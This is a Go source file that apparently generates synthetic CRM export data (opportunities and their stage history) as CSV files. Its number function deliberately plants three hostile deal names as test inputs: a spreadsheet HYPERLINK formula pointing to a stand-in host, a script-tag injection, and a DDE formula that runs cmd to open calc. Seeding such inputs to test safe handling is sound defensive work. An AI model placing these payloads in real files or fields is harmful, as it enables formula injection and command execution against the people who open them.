package main

import (
	"sort"
	"strconv"
)

// number gives the deals their ids, in the order of creation, and hostile
// names to two of them: text that a spreadsheet or a browser would run.
func (w *world) number() {
	for i, d := range w.deals {
		d.id = recordID(opportunityKey, i+1)
	}
	w.deals[len(w.deals)-9].name = `=HYPERLINK("http://prize.example/?deal="&A2,"Open the quote")`
	w.deals[len(w.deals)-14].name = `<script>alert("pipeline")</script> Prüfstand <b>fett</b>`
	w.deals[len(w.deals)-21].name = "@SUM(1+1)*cmd|' /C calc'!A0 - torque bench"
}

func (w *world) opportunityFile() file {
	s := newSheet("Id", "IsDeleted", "AccountId", "IsPrivate", "Name", "Description", "StageName",
		"StageSortOrder", "Amount", "Probability", "ExpectedRevenue", "CloseDate", "Type", "NextStep",
		"LeadSource", "IsClosed", "IsWon", "ForecastCategory", "ForecastCategoryName", "CampaignId",
		"OwnerId", "CreatedDate", "CreatedById", "LastModifiedDate", "SystemModstamp",
		"LastActivityDate", "LastStageChangeDate", "FiscalYear", "FiscalQuarter", "ContactId",
		"Region__c", "Loss_Reason__c")
	touched := w.lastActivities()
	for _, d := range w.deals {
		states := d.states(asOf)
		now := states[len(states)-1]
		year, quarter := now.close.quarter().fiscal()
		reason, step := "", d.nextStep
		if now.stage == closedLost {
			reason = d.reason
		}
		if now.stage.closed() {
			step = ""
		}
		owner := w.sellers[d.owner]
		s.add(d.id, "0", d.customer.id, "0", d.name, "", now.stage.String(), number(int(now.stage)+1),
			euros(now.amount), number(now.stage.probability()), expected(now), now.close.String(), d.kind, step,
			d.source, flag(now.stage.closed()), flag(now.stage == closedWon), now.category(), shown(now.category()), noLookup,
			owner.id, d.created.String(), owner.id, now.at.String(), now.at.String(),
			touched[d], stageSince(states), number(year), number(quarter), d.contact.id,
			owner.role, reason)
	}
	s.soil(opportunityDirt())
	return s.file("Opportunity.csv")
}

// shown gives the label of a forecast category.
func shown(category string) string {
	switch category {
	case "Forecast":
		return "Commit"
	case "BestCase":
		return "Best Case"
	}
	return category
}

func euros(amount int) string {
	if amount == noAmount {
		return ""
	}
	return number(amount)
}

// expected is amount × probability, as the CRM stores it.
func expected(s state) string {
	if s.amount == noAmount {
		return ""
	}
	return strconv.FormatFloat(float64(s.amount*s.stage.probability())/100, 'f', -1, 64)
}

func stageSince(states []state) string {
	for i := len(states) - 1; i > 0; i-- {
		if states[i].stage != states[i-1].stage {
			return states[i].at.String()
		}
	}
	return states[0].at.String()
}

// lastActivities gives, per deal, the newest day on which something was done.
func (w *world) lastActivities() map[*deal]string {
	newest := map[*deal]day{}
	for _, a := range w.activities {
		if a.deal != nil && a.done && a.on <= asOf {
			newest[a.deal] = max(newest[a.deal], a.on)
		}
	}
	out := map[*deal]string{}
	for d, on := range newest {
		out[d] = on.String()
	}
	return out
}

// historyRow is one state of a deal with the state before and after it.
type historyRow struct {
	deal        *deal
	before, now state
	first       bool
	until       string
}

func (w *world) historyFile() file {
	var rows []historyRow
	for _, d := range w.deals {
		states := d.states(asOf)
		for i, st := range states {
			r := historyRow{deal: d, now: st, first: i == 0}
			if i > 0 {
				r.before = states[i-1]
			}
			if i+1 < len(states) {
				r.until = states[i+1].at.String()
			}
			rows = append(rows, r)
		}
	}
	sort.SliceStable(rows, func(i, j int) bool { return rows[i].now.at < rows[j].now.at })
	s := newSheet("Id", "OpportunityId", "CreatedById", "CreatedDate", "StageName", "Amount",
		"ExpectedRevenue", "CloseDate", "Probability", "FromForecastCategory", "ForecastCategory",
		"FromOpportunityStageName", "ValidThroughDate", "SystemModstamp", "IsDeleted")
	for i, r := range rows {
		from, stage := "", ""
		if !r.first {
			from, stage = r.before.category(), r.before.stage.String()
		}
		s.add(recordID(historyKey, i+1), r.deal.id, w.sellers[r.deal.owner].id, r.now.at.String(),
			r.now.stage.String(), euros(r.now.amount), expected(r.now), r.now.close.String(),
			number(r.now.stage.probability()), from, r.now.category(), stage, r.until, r.now.at.String(), "0")
	}
	return s.file("OpportunityHistory.csv")
}
